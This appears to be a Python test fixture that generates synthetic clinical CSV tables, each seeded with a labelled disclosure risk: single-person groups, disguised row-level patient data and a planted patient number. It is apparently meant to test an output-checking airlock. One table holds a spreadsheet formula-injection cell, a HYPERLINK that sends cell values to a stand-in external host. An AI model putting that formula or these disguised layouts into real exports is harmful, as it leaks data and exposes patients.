"""CSV tables with a person in them: a group of one, a formula, rows in disguise, patient numbers."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs7.kit import table
from tests.airlock.outputs7.study import ipp, model


def write(shelf: Shelf) -> None:
    r = shelf.random("csv_persons")

    path = shelf.unsafe(
        "csv/couts_par_profil.csv",
        "standard deviation of one person",
        "profil 'polyhandicap ventilé': écart-type vide et moyenne exacte",
        "Coûts moyens et écarts-types par profil de dépendance.",
        "1 212 children followed in a reference centre for rare diseases",
    )
    costs = [
        [name, r.randint(60, 240), f"{r.uniform(6000, 22000):.2f}", f"{r.uniform(1500, 7000):.2f}"]
        for name in (
            "marche autonome",
            "marche aidée",
            "fauteuil manuel",
            "fauteuil électrique",
            "gastrostomie",
            "trachéotomie",
        )
    ]
    costs.insert(5, ["polyhandicap ventilé", "n.c.", "118437.16", "NA"])
    table(path, [["profil", "n", "cout_moyen_eur", "ecart_type"], *costs], ";")

    path = shelf.unsafe(
        "csv/coef_export.csv",
        "formula injection",
        "row 'Region', label begins with =HYPERLINK",
        "Coefficients of the multivariable logistic model of 30-day readmission.",
        "9,874 adults discharged from internal medicine",
    )
    coef = model(
        r,
        [
            "Age, per 10 years",
            "Female sex",
            "Charlson index, per point",
            "Weekend discharge",
            "Length of stay, per day",
            "Polypharmacy",
            "Previous admission",
            "Haemoglobin < 100 g/L",
        ],
    )
    coef.insert(6, ['=HYPERLINK("http://stats.example.net/?q="&A2&B2,"Region")', "1.08", "0.97–1.20", "0.161"])
    table(path, coef)

    path = shelf.unsafe(
        "csv/transposed_panel.csv",
        "row-level data turned on its side",
        "columns P001 to P064 are persons",
        "Cytokine panel by assay (assays in rows).",
        "64 patients with macrophage activation syndrome",
    )
    table(
        path,
        [
            ["assay", "unit", *(f"P{i:03d}" for i in range(1, 65))],
            *(
                [name, "pg/mL", *(round(r.lognormvariate(mu, 0.8), 1) for _ in range(64))]
                for name, mu in (
                    ("IL-1b", 1.2),
                    ("IL-6", 4.1),
                    ("IL-10", 3.3),
                    ("IL-18", 7.2),
                    ("CXCL9", 8.1),
                    ("IFN-g", 2.6),
                    ("sCD25", 8.4),
                    ("Ferritin", 8.9),
                )
            ),
        ],
    )

    path = shelf.unsafe(
        "csv/strates_ponderees.csv",
        "row-level data under the name of weighted strata",
        "each stratum is one person: exact weight to 4 decimals, age, commune",
        "Poids d'appariement par strate de score de propension.",
        "1 940 matched patients in a study of statins and falls",
    )
    table(
        path,
        [
            ["strate", "age", "sexe", "insee", "score", "poids"],
            *(
                [
                    i,
                    r.randint(66, 88),
                    r.choice("FH"),
                    r.choice(["54395", "54547", "57463", "88160", "55029", "54528"]),
                    f"{r.betavariate(2, 5):.6f}",
                    f"{r.uniform(0.6, 3.1):.4f}",
                ]
                for i in range(1, 181)
            ),
        ],
        ";",
    )

    path = shelf.unsafe(
        "csv/data_quality_report.csv",
        "patient numbers among the rules of a quality report",
        "column example of rule DQ-07",
        "Data-quality rules run before the analysis, with numbers of lines failing each.",
        "18,200 patients with at least one echocardiography report",
    )
    rules = [["rule", "description", "lines_checked", "lines_failing", "example"]]
    for i, name in enumerate(
        [
            "LVEF between 5 and 90",
            "exam date within stay",
            "unit is percent",
            "report not empty",
            "one report per exam",
            "weight between 30 and 250",
            "height between 120 and 220",
            "no duplicate key",
        ],
        1,
    ):
        rules.append(
            [
                f"DQ-{i:02d}",
                name,
                str(r.randint(24000, 31000)),
                str(r.randint(40, 900)),
                "value 0.55 instead of 55" if i == 1 else ipp(r) if i == 7 else "",
            ]
        )
    table(path, rules)

    path = shelf.unsafe(
        "csv/episodes_resume.csv",
        "row-level: one line per patient keyed by rank of admission",
        "lines 1 to 90",
        "Synthèse des délais de prise en charge, triée par délai.",
        "90 patients with ruptured aortic aneurysm",
    )
    table(
        path,
        [
            ["rang", "delai_bloc_min", "pas_arrivee", "lactates", "transfusion_cgr", "issue"],
            *(
                [
                    i,
                    18 + i * 2 + r.randint(0, 1),
                    r.randint(58, 110),
                    f"{r.uniform(1.5, 11):.1f}".replace(".", ","),
                    r.randint(0, 14),
                    r.choice(["vivant", "vivant", "décédé"]),
                ]
                for i in range(1, 91)
            ),
        ],
        ";",
    )
